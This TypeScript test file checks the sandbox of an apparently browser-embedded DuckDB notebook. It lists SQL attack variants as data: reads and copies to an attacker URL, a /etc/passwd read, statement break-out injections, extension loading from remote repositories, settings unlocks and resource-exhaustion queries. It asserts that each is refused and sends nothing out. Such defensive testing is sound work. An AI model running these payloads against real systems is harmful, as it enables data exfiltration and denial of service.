import type {Page} from "playwright-core";
import {afterAll, beforeAll, beforeEach, describe, expect, inject, test} from "vitest";
import {attackerLog, attackerUrl, clearAttackerLog} from "../support/attacker";
import {closeBrowser, openBrowser, openPage, refusal, sql, type OpenPage} from "../support/browser";

let opened: OpenPage;
beforeAll(async () => {
  opened = await openPage();
});
beforeEach(clearAttackerLog);
afterAll(closeBrowser);

/** The cases of the threat list, each in several variants; `URL` stands for the attacker's address. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  "A1 read_csv of a URL": [
    "select * from read_csv('URL/a1.csv')",
    "select * from read_csv_auto(['URL/a1.csv', 'URL/a1b.csv'])",
    "select * from read_csv('URL/a1.csv', all_varchar = true, header = true)",
    "with leak as (from read_csv('URL/a1.csv')) select count(*) from leak"
  ],
  "A2 a URL made of the data": [
    "select * from read_csv('URL/a2?' || (select 'name'))",
    "select * from read_csv(concat('URL/a2?', 'name'))",
    "select * from read_csv(getvariable('target'))",
    "set variable target = (select 'URL/a2?' || 'name')",
    "select * from read_text((select 'URL/a2?' || 'name'))"
  ],
  "A3 replacement scan": [
    "select * from 'URL/a3.csv'",
    'from "URL/a3.csv"',
    "from 'URL/a3.parquet'",
    "describe 'URL/a3.csv'"
  ],
  "A4 read_text, read_blob": [
    "select * from read_text('URL/a4')",
    "select * from read_blob(['URL/a4'])",
    "select content from read_text('/etc/passwd')",
    "select * from read_duckdb('URL/a4.db')"
  ],
  "A5 copy to a URL": [
    "copy (select 1) to 'URL/a5.csv'",
    "copy (select 1) to 's3://bucket/a5.csv'",
    "select 1; copy (select 1) to 'URL/a5.csv'"
  ],
  "A6 copy to a local name": ["copy (select 1) to 'in/a6.csv'", "copy (select 1) to 'a6.csv' (format csv)"],
  "A7 attach": ["attach 'URL/a7.db' as a7", "attach 'in/a7.db' as a7", "attach ':memory:' as a7", "use memory"],
  "A8 export, import": [
    "export database 'URL/a8'",
    "import database 'URL/a8'",
    "export database 'in/'",
    "select * from import_database('URL/a8')"
  ],
  "A9 load, install": ["load 'URL/a9.duckdb_extension.wasm'", "install a9 from 'URL'", "install httpfs", "load icu"],
  "A10 custom_extension_repository": [
    "set custom_extension_repository = 'URL'",
    "set global autoinstall_extension_repository = 'URL'",
    "select json_object('a', 1)"
  ],
  "A11 httpfs, s3, secrets": [
    "create secret s (type s3, endpoint 'URL')",
    "select * from read_csv('s3://bucket/a11.csv')",
    "from 'hf://datasets/a11.csv'",
    "from which_secret('s3://bucket/x', 's3')",
    "set s3_endpoint = 'URL'"
  ],
  "A12 sniff_csv, glob": [
    "from sniff_csv('URL/a12.csv')",
    "from glob('URL/*')",
    "from glob('/**')",
    "from parquet_scan('URL/a12.parquet')"
  ],
  "A13 several statements, view break-out": [
    "select 1; from read_csv('URL/a13.csv')",
    "(select 1); drop schema main cascade; --",
    "select 1) as t; from read_csv('URL/a13.csv'); --",
    "select 1'); from read_csv('URL/a13.csv'); --",
    "select E'\\'' ; from read_csv('URL/a13.csv') --'",
    "from query('select * from read' || '_csv(''URL/a13.csv'')')"
  ],
  "A14 settings after the lock": [
    "set enable_external_access = true",
    "reset lock_configuration",
    "pragma enable_profiling",
    "call enable_logging()",
    "from enable_logging(storage = 'file', storage_path = 'URL/a14')",
    'from "enable_profiling" /**/ ()'
  ]
};

for (const [name, variants] of Object.entries(attacks)) {
  describe(name, () => {
    test.each(variants)("%s", async (variant) => {
      expect(await refusal(opened.page, variant.replaceAll("URL", attackerUrl))).toMatch(
        /^engine\.(?!stopped|cancelled)/
      );
      expect(await sql(opened.page, "select 42 as answer")).toEqual([{answer: 42}]);
      expect(opened.requests.filter((url) => !url.startsWith(inject("pageUrl")))).toEqual([]);
      expect(await attackerLog()).toEqual([]);
    });
  });
}

describe("A16 bombs end in time, and the engine answers", () => {
  test.each([
    "select max(hash(range)) from range(100000000000)",
    "with recursive endless as (select 1 as n union all select n + 1 from endless) select count(*) from endless",
    "select sum(a.range * b.range) from range(1000000) a, range(1000000) b",
    "select length(repeat('x', 2000000000))",
    "select string_agg(repeat('x', 1000)) from range(10000000)"
  ])("%s", async (bomb) => {
    const code = await refusal(opened.page, bomb, {timeoutMilliseconds: 300});
    expect(code).toMatch(/^engine\.(timeout|stopped|out_of_memory)$/);
    expect(await sql(opened.page, "select 42 as answer")).toEqual([{answer: 42}]);
  });
});

test("A18 two thousand columns and a string of ten million characters come through", async () => {
  const columns = Array.from({length: 2000}, (_, index) => `${index} as c${index}`).join(", ");
  expect(Object.keys((await sql(opened.page, `select ${columns}`))[0]!)).toHaveLength(2000);
  const [row] = await sql(opened.page, "select repeat('x', 10000000) as long");
  expect(row!.long).toHaveLength(10_000_000);
});

test("after every attack the settings are what they were", async () => {
  const names = "'enable_external_access', 'lock_configuration', 'enable_logging', 'search_path', 'enable_profiling'";
  expect(
    await sql(opened.page, `select name, value from duckdb_settings() where name in (${names}) order by name`)
  ).toEqual([
    {name: "enable_external_access", value: "false"},
    {name: "enable_logging", value: "0"},
    {name: "enable_profiling", value: null},
    {name: "lock_configuration", value: "true"},
    {name: "search_path", value: "main,notebook"}
  ]);
});

test("the page itself cannot reach the attacker either", async () => {
  const outcome = await opened.page.evaluate(async (url) => {
    const asked = await fetch(`${url}/page`).then(String, () => "refused");
    const image = await new Promise((resolve) => {
      const picture = new Image();
      picture.onload = () => resolve("loaded");
      picture.onerror = () => resolve("refused");
      picture.src = `${url}/image.png`;
    });
    return {asked, image};
  }, attackerUrl);
  expect(outcome).toEqual({asked: "refused", image: "refused"});
  expect(await attackerLog()).toEqual([]);
  expect(opened.violations.some((violation) => violation.startsWith("connect-src"))).toBe(true);
});

test("a script URL that is no blob is refused by Trusted Types", async () => {
  const message = await opened.page.evaluate(() => {
    try {
      return String(new Worker("duckdb/duckdb-browser-eh.worker.js"));
    } catch (error) {
      return String(error);
    }
  });
  expect(message).toContain("TrustedScriptURL");
});

describe("the listener does hear what is sent from a page of the same host without a policy", () => {
  let page: Page;
  beforeAll(async () => {
    page = await (await openBrowser()).newPage();
    await page.goto(new URL("nothing-here", inject("pageUrl")).href);
  });

  test("by the page", async () => {
    await page.evaluate((url) => fetch(`${url}/control`).then(() => undefined), attackerUrl);
    expect(await attackerLog()).toEqual(expect.arrayContaining(["connection", "GET /control"]));
  });

  test("by DuckDB, started from an ordinary URL and left unlocked", async () => {
    const answer = await page.evaluate(runUnlocked, `select * from read_csv('${attackerUrl}/sql.csv')`);
    expect(answer).toBe("QUERY_RESULT");
    expect(await attackerLog()).toContain("GET /sql.csv");
  });
});

/** What a careless page does, in DuckDB's own messages; returns the kind of the last answer. */
async function runUnlocked(select: string): Promise<string> {
  const packed = await fetch("duckdb/duckdb-eh.wasm.gz");
  const module = new Response(packed.body!.pipeThrough(new DecompressionStream("gzip")));
  const bytes = new Blob([await module.arrayBuffer()], {type: "application/wasm"});
  const worker = new Worker("duckdb/duckdb-browser-eh.worker.js");
  const ask = (type: string, data: unknown) =>
    new Promise<{type: string; data: unknown}>((resolve) => {
      worker.addEventListener("message", (event) => event.data.requestId === 7 && resolve(event.data), {once: true});
      worker.postMessage({messageId: 7, type, data});
    });
  const isOver = ({data}: MessageEvent) => data.type !== "INSTANTIATE_PROGRESS";
  const instantiated = new Promise((resolve) => {
    worker.onmessage = (event) => isOver(event) && resolve(event.data);
  });
  worker.postMessage({messageId: 1, type: "INSTANTIATE", data: [URL.createObjectURL(bytes), null]});
  await instantiated;
  await ask("OPEN", {path: ":memory:"});
  const {data: connection} = await ask("CONNECT", null);
  const {type} = await ask("RUN_QUERY", [connection, select]);
  worker.terminate();
  return type;
}
